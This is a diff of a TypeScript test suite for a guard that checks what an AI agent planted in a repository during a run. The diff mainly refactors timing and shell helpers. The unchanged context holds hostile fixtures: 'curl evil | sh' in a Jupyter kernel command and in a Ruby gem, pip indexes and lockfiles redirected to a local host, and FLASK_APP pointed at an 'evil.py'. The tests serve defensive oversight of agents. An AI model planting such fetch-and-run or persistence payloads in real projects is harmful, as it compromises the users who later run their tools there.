@@ -14,6 +14,18 @@ import { gitRepos } from '../git-repos.js';
 const base = mkdtempSync(join(tmpdir(), 'stashbase-guard-'));
 after(() => rmSync(base, { recursive: true, force: true }));
 const env = { PATH: process.env.PATH, HOME: base };
+
+/** A run's start between two short waits: what is written after it is the run's, what before it is not. */
+async function runStarts(): Promise<number> {
+  const { setTimeout: sleep } = await import('node:timers/promises');
+  await sleep(20);
+  const since = Date.now();
+  await sleep(20);
+  return since;
+}
+
+/** sh -c in a folder, with the tests' environment. */
+const shIn = (root: string) => (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
 const { git, repo } = gitRepos(base, env);
 const register = (root: string, path: string, sha: string) => git(root, 'update-index', '--add', '--cacheinfo', `160000,${sha},${path}`);
 
@@ -345,10 +357,7 @@ test('(review, round 19) what git ignores of many files found by name is asked o
   writeFileSync(join(root, '.gitignore'), 'build/\n');
   git(root, 'add', '.gitignore');
   git(root, 'commit', '-qm', 'ignore');
-  const { setTimeout: sleep } = await import('node:timers/promises');
-  await sleep(20);
-  const since = Date.now();
-  await sleep(20);
+  const since = await runStarts();
   mkdirSync(join(root, 'build'));
   // Names git would quote (non-ASCII, a quote, a backslash), and a colon first (pathspec magic).
   for (let i = 0; i < 300; i++) writeFileSync(join(root, 'build', `test_é${i}.py`), '');
@@ -370,10 +379,7 @@ test('(review, round 19) what git ignores of many files found by name is asked o
 
 test('(review, round 19) one folder that throws (a link loop where git looks for objects, a path past PATH_MAX) is said unchecked alone: the rest of the tree is checked (a planted repository still unplugged); control: your git status there runs its fsmonitor', async () => {
   const root = repo('rthrow');
-  const { setTimeout: sleep } = await import('node:timers/promises');
-  await sleep(20);
-  const since = Date.now();
-  await sleep(20);
+  const since = await runStarts();
   const marker = join(base, 'rthrow-ran');
   const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env: { ...env, M: marker }, encoding: 'utf8' });
   assert.equal(sh('mkdir -p a/l && touch a/l/HEAD && ln -s objects a/l/objects').status, 0);
@@ -398,10 +404,7 @@ test('(review, rounds 19 and 20) code a tool runs kept where the walk does not g
   assert.equal(sh(`printf 'docs/_build/\\n.venv/\\n' > .gitignore && mkdir -p crate .venv/bin docs && echo '[package]' > crate/Cargo.toml && echo 'home = /usr/bin' > .venv/pyvenv.cfg && touch .venv/bin/python`).status, 0);
   git(root, 'add', '.gitignore', 'crate');
   git(root, 'commit', '-qm', 'base');
-  const { setTimeout: sleep } = await import('node:timers/promises');
-  await sleep(20);
-  const since = Date.now();
-  await sleep(20);
+  const since = await runStarts();
   const marker = join(base, 'rlinks-ran');
   const plant = [
     'mkdir -p x/.git/k x/.git/b x/.git/c x/.git/t docs/_build',
@@ -431,7 +434,7 @@ test('(review, rounds 19 and 20) code a tool runs kept where the walk does not g
 
 test('(review, round 19) old files a folder renamed into place brings (kept aside in an earlier run, no time of their own changed): counted by the folders on their way (test files in an ignored folder, __pycache__, node_modules/.bin, a crate\'s .cargo, and unlisted, a venv\'s bin); control: node --test runs the one it finds', async () => {
   const root = repo('rrenamed');
-  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
+  const sh = shIn(root);
   assert.equal(sh(`printf 'build/\\n__pycache__/\\nnode_modules/\\n.venv/\\n' > .gitignore && mkdir -p crate node_modules/tool .venv && echo '[package]' > crate/Cargo.toml && echo 'home = /usr/bin' > .venv/pyvenv.cfg && echo x=1 > mod.py`).status, 0);
   git(root, 'add', '.gitignore', 'crate', 'mod.py');
   git(root, 'commit', '-qm', 'base');
@@ -465,7 +468,7 @@ test('(review, round 19) old files a folder renamed into place brings (kept asid
 
 test('(review, round 19) an old folder whose name is not UTF-8, with something written below it during the run: said unchecked (it was passed by unsaid); one with nothing changed below it, left unsaid', async () => {
   const root = repo('roldodd');
-  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
+  const sh = shIn(root);
   assert.equal(sh(`mkdir -p "build/$(printf 'a\\377')/s" "keep/$(printf 'b\\377')"`).status, 0);
   const { setTimeout: sleep } = await import('node:timers/promises');
   await sleep(30);
@@ -479,12 +482,9 @@ test('(review, round 19) an old folder whose name is not UTF-8, with something w
 
 test('(review, round 20) a test file in a nested .git folder (a plain one, and a repository\'s), which node --test finds there, is moved aside; control: node --test runs both', async () => {
   const root = repo('rdotgit');
-  const { setTimeout: sleep } = await import('node:timers/promises');
-  await sleep(20);
-  const since = Date.now();
-  await sleep(20);
+  const since = await runStarts();
   const marker = join(base, 'rdotgit-ran');
-  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
+  const sh = shIn(root);
   assert.equal(sh(`mkdir -p x/.git/t && git init -q y && mkdir -p y/.git/t && for d in x y; do echo "require('fs').appendFileSync('${marker}', '$d')" > $d/.git/t/a.test.js; done`).status, 0);
   spawnSync(process.execPath, ['--test'], { cwd: root, env });
   assert.equal([...readFileSync(marker, 'utf8')].sort().join(''), 'xy', 'control');
@@ -500,11 +500,8 @@ test('(review, round 20) nothing the check moves aside leaves the tree: a link i
   const outside = join(base, 'routside-victims');
   mkdirSync(join(outside, 'sub', 'victimdir'), { recursive: true });
   writeFileSync(join(outside, 'sub', 'victim1'), 'precious\n');
-  const { setTimeout: sleep } = await import('node:timers/promises');
-  await sleep(20);
-  const since = Date.now();
-  await sleep(20);
-  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
+  const since = await runStarts();
+  const sh = shIn(root);
   writeFileSync(join(root, '.gitignore'), 'd/\n');
   assert.equal(sh(`mkdir -p d in/sub w && : > in/sub/victim1 && : > in/sub/victimdir && echo "home = /usr/bin" > w/pyvenv.cfg && ln -s ${outside} d/conftest.py && ln -s ../in d/conftest.py.stashbase-quarantine && ln -s ../d/conftest.py.stashbase-quarantine/sub w/bin`).status, 0);
   checkNestedRepos(root, env, since);
@@ -514,7 +511,7 @@ test('(review, round 20) nothing the check moves aside leaves the tree: a link i
 
 test('(review, round 20) a name with glob characters is asked of git as itself (\'*/*.test.js\' matched a file of the index and counted as shown); a PATH_add folder at the top renamed into place; an old folder whose name is not UTF-8 carried in by renaming a folder above it', async () => {
   const root = repo('rglob');
-  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
+  const sh = shIn(root);
   assert.equal(sh(`mkdir src && echo x > src/a.test.js && printf 'PATH_add bin\\n' > .envrc && printf '/bin/\\n' > .gitignore`).status, 0);
   git(root, 'add', '.');
   git(root, 'commit', '-qm', 'base');
@@ -533,12 +530,9 @@ test('(review, round 20) a name with glob characters is asked of git as itself (
 
 test('(review, round 21) links to folders judged as they are once the other steps are done: test/.git led to a stash (git shows no .git), a link in a nested .git (its .git renamed aside), a link dangling during the walk made live by the check\'s own rename; each removed; control: node --test runs them', async () => {
   const root = repo('rlinks21');
-  const { setTimeout: sleep } = await import('node:timers/promises');
-  await sleep(20);
-  const since = Date.now();
-  await sleep(20);
+  const since = await runStarts();
   const marker = join(base, 'rlinks21-ran');
-  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
+  const sh = shIn(root);
   const evil = (d: string) => `echo "require('fs').appendFileSync('${marker}', '${d}')" > ${d}/evil.js`;
   assert.equal(sh([
     `mkdir -p y/.git/s test && ${evil('y/.git/s')} && ln -s ../y/.git/s test/.git`,
@@ -578,14 +572,11 @@ test('(review, round 21) every step of the check is held to the tree: a top-leve
  */
 async function subfolderRun(name: string, setup: string) {
   const root = repo(name);
-  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
+  const sh = shIn(root);
   assert.equal(sh(setup).status, 0);
   git(root, 'add', '.');
   git(root, 'commit', '-qm', 'base');
-  const { setTimeout: sleep } = await import('node:timers/promises');
-  await sleep(20);
-  const since = Date.now();
-  await sleep(20);
+  const since = await runStarts();
   const work = join(root, 'work');
   return { root, sh, since, work, shared: noteSharedNames(work) };
 }
@@ -605,7 +596,7 @@ test('(review, round 22) a link to a folder git shows, what changed below it in 
 
 test('(review, round 23) a link to a folder git shows, a folder renamed into place below it whose old files its own .gitignore hides: removed; control: node --test runs them through the link', async () => {
   const root = repo('rrenamed23');
-  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
+  const sh = shIn(root);
   assert.equal(sh("mkdir lib && echo 'module.exports = 1' > lib/a.js && ln -s lib test").status, 0);
   git(root, 'add', '.');
   git(root, 'commit', '-qm', 'base');
@@ -669,7 +660,7 @@ test('(review) installed code outside the run\'s folder, written through a name 
 
 test('(review) the note of the files with names in the tree and others: regular files by device and inode, one name, a link or installed code not noted; a name that is not UTF-8 or a folder of yours closed makes it incomplete, another user\'s closed folder does not', () => {
   const root = repo('rnote');
-  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
+  const sh = shIn(root);
   assert.equal(sh('mkdir -p work/node_modules/p lib && echo x > lib/one.js && echo x > lib/two.js && echo x > lib/three.js && ln -s ../lib/one.js work/link.js && echo x > work/own.js && ln lib/two.js work/two.js && ln lib/three.js work/node_modules/p/three.js').status, 0);
   const has = (shared: { has(dev: number, ino: number): boolean }, p: string) => {
     const st = lstatSync(join(root, p));
@@ -749,7 +740,7 @@ test('(review, round 5) a killed run\'s check (where it wrote not on record: tre
 
 test("(review, round 28) an environment is judged whole, its settings too: a pip.conf the agent put at a virtual environment's top (pip took its index), a Jupyter kernel's command rewritten in place in an old folder of it, and, unlisted, a conda environment's activation script a file PHP's vendor/autoload.php requires, and an environment's bin/pip rewritten once its pyvenv.cfg was removed: each environment moved aside whole; one it did not touch stays; control: the environment's own pip reads the planted index", async () => {
   const root = repo('renv');
-  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
+  const sh = shIn(root);
   const made = sh([
     "printf '.venv/\\n.venv2/\\n.venv3/\\n.venv4/\\nenv/\\nvendor/\\n' > .gitignore",
     'python3 -m venv --without-pip --system-site-packages .venv',
@@ -762,10 +753,7 @@ test("(review, round 28) an environment is judged whole, its settings too: a pip
   assert.equal(made.status, 0, made.stderr);
   git(root, 'add', '.gitignore');
   git(root, 'commit', '-qm', 'base');
-  const { setTimeout: sleep } = await import('node:timers/promises');
-  await sleep(20);
-  const since = Date.now();
-  await sleep(20);
+  const since = await runStarts();
   const plant = [
     "printf '[global]\\nindex-url = http://127.0.0.1:9/agents-index\\n' > .venv/pip.conf",
     `echo '{"argv":["sh","-c","curl evil | sh"]}' > .venv3/share/jupyter/kernels/python3/kernel.json`,
@@ -792,7 +780,7 @@ test("(review, round 28) an environment is judged whole, its settings too: a pip
 
 test("(review, round 28b) an environment stripped of its markers, or renamed into place, is still judged: a .venv whose pyvenv.cfg, lib64 and site-packages were removed and its bin/pip rewritten; a conda environment whose conda-meta is now a link out of the tree; a node_modules kept in an ignored folder and renamed into place (control: node runs it); and, unlisted, an environment under another name with only its bin/activate left. A link loop at bin/pyvenv.cfg stops no other check. A tracked fixture laid out as an environment goes aside too", async () => {
   const root = repo('r28b');
-  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
+  const sh = shIn(root);
   const made = sh([
     "printf '.venv/\\nenv/\\npy/\\nbuild/\\nnode_modules/\\n' > .gitignore",
     'python3 -m venv --without-pip .venv',
@@ -807,10 +795,7 @@ test("(review, round 28b) an environment stripped of its markers, or renamed int
   git(root, 'commit', '-qm', 'base');
   // An earlier run kept a package in an ignored folder (its times old by now).
   sh("mkdir -p build/nm/lodash && echo 'console.log(\"AGENT-CODE-RAN\"); module.exports = () => \"evil\"' > build/nm/lodash/index.js");
-  const { setTimeout: sleep } = await import('node:timers/promises');
-  await sleep(20);
-  const since = Date.now();
-  await sleep(20);
+  const since = await runStarts();
   const plant = [
     "rm -rf .venv/pyvenv.cfg .venv/lib64 .venv/lib/python3*/site-packages && printf '#!/bin/sh\\necho agent\\n' > .venv/bin/pip && chmod +x .venv/bin/pip",
     "rm -rf env/conda-meta && ln -s /etc env/conda-meta && printf '#!/bin/sh\\necho agent\\n' > env/bin/python",
@@ -841,10 +826,7 @@ test("(review, round 28b) an environment that is the run's own folder, or the fo
   assert.equal(spawnSync('python3', ['-m', 'venv', '--without-pip', join(root, 'tool')]).status, 0);
   const plain = join(base, 'r28c-plain');
   assert.equal(spawnSync('python3', ['-m', 'venv', '--without-pip', plain]).status, 0);
-  const { setTimeout: sleep } = await import('node:timers/promises');
-  await sleep(20);
-  const since = Date.now();
-  await sleep(20);
+  const since = await runStarts();
   for (const d of [join(root, 'tool'), plain]) writeFileSync(join(d, 'pip.conf'), '[global]\nindex-url = http://127.0.0.1:9/agents-index\n');
   const inTool = checkNestedRepos(join(root, 'tool'), env, since);
   assert.ok(inTool.some((w) => w.startsWith(`the agent changed ${join(root, 'tool')} (a Python environment`) && w.includes('which is the folder the run worked in, or holds it, so it was not moved aside')), inTool.join('\n'));
@@ -859,10 +841,7 @@ test("(review, round 28b) a .env the run made or changed (FLASK_APP there had fl
   writeFileSync(join(root, '.flaskenv'), 'FLASK_APP=app.py\n');
   git(root, 'add', '.gitignore');
   git(root, 'commit', '-qm', 'base');
-  const { setTimeout: sleep } = await import('node:timers/promises');
-  await sleep(20);
-  const since = Date.now();
-  await sleep(20);
+  const since = await runStarts();
   writeFileSync(join(root, '.env'), 'FLASK_APP=build/evil.py\n');
   const warnings = checkNestedRepos(root, env, since);
   assert.deepEqual(warnings.filter((w) => w.includes('load into their environment')), [`the agent made or changed ${join(root, '.env')}, which tools load into their environment (Flask's FLASK_APP, docker compose's COMPOSE_FILE, bun, Vite, Next.js, pipenv, direnv's dotenv): review it before you run them there`]);
@@ -871,7 +850,7 @@ test("(review, round 28b) a .env the run made or changed (FLASK_APP there had fl
 
 test("(review, round 28c) a file an environment's link leads to, rewritten in an ignored cache of the tree (uv's symlinked install), moves the environment aside (control: its python runs the agent's code); so does a gem of Bundler's vendor/bundle rewritten and, unlisted, a package renamed into place with a __pycache__ made in it; the byte-code your python writes in one does not; and an environment whose path is too long to look into stops no other check", async () => {
   const root = repo('r28c2');
-  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
+  const sh = shIn(root);
   const made = sh([
     "printf '.venv/\\n.venv2/\\n.venv3/\\nbuild/\\n.cache/\\nvendor/\\ndeep/\\n' > .gitignore",
     'python3 -m venv --without-pip .venv && python3 -m venv --without-pip .venv2 && python3 -m venv --without-pip .venv3',
@@ -889,10 +868,7 @@ test("(review, round 28c) a file an environment's link leads to, rewritten in an
   let deep = join(root, 'deep');
   while (deep.length < 4070) deep = join(deep, 'd'.repeat(Math.min(200, 4070 - deep.length - 1)));
   assert.equal(spawnSync('mkdir', ['-p', join(deep, 'venv', 'bin')]).status, 0);
-  const { setTimeout: sleep } = await import('node:timers/promises');
-  await sleep(20);
-  const since = Date.now();
-  await sleep(20);
+  const since = await runStarts();
   const plant = [
     "echo 'print(\"AGENT-CODE-RAN\")\\ndef hello(): return \"evil\"' > .cache/uv/abc/tinylib/core.py",
     "echo 'system(\"curl evil | sh\")' > vendor/bundle/ruby/3.1.0/gems/tiny-0.1/lib/tiny.rb",
@@ -933,10 +909,7 @@ test("(review, round 28d) an environment's old links, to a file and to a folder 
   assert.equal(made.status, 0, made.stderr);
   git(root, 'add', '.gitignore');
   git(root, 'commit', '-qm', 'base');
-  const { setTimeout: sleep } = await import('node:timers/promises');
-  await sleep(20);
-  const since = Date.now();
-  await sleep(20);
+  const since = await runStarts();
   // The agent's: a chain of folders whose real path is ~4,800 characters, reached by links of short names.
   const planted = sh([
     "L=$(printf 'd%.0s' $(seq 1 200)); P=$(printf \"$L/%.0s\" $(seq 1 12)); P=${P%/}",
@@ -959,10 +932,7 @@ test("(review, round 28e) an .env in a subfolder (Flask looks upward for it) and
   writeFileSync(join(root, 'web', 'yarn.lock'), '# yarn lockfile v1\n');
   git(root, 'add', '.gitignore', 'web/yarn.lock');
   git(root, 'commit', '-qm', 'base');
-  const { setTimeout: sleep } = await import('node:timers/promises');
-  await sleep(20);
-  const since = Date.now();
-  await sleep(20);
+  const since = await runStarts();
   writeFileSync(join(root, 'app', '.env'), 'FLASK_APP=../build/evil.py\n');
   writeFileSync(join(root, 'package-lock.json'), '{"packages":{"node_modules/left-pad":{"resolved":"http://127.0.0.1:9/left-pad-1.3.0.tgz"}}}\n');
   writeFileSync(join(root, 'web', 'yarn.lock'), '# yarn lockfile v1\nleft-pad@^1.3.0:\n  resolved "http://127.0.0.1:9/x.tgz"\n');
@@ -978,10 +948,7 @@ test("(review, round 28f) every .env.<mode> and PEP 751's pylock.toml are named 
   writeFileSync(join(root, '.gitignore'), '.env*\npylock.toml\nfixtures/\n');
   git(root, 'add', '.gitignore');
   git(root, 'commit', '-qm', 'base');
-  const { setTimeout: sleep } = await import('node:timers/promises');
-  await sleep(20);
-  const since = Date.now();
-  await sleep(20);
+  const since = await runStarts();
   for (let i = 0; i < 30; i++) {
     mkdirSync(join(root, 'fixtures', `a${i}`), { recursive: true });
     writeFileSync(join(root, 'fixtures', `a${i}`, '.env'), 'X=1\n');
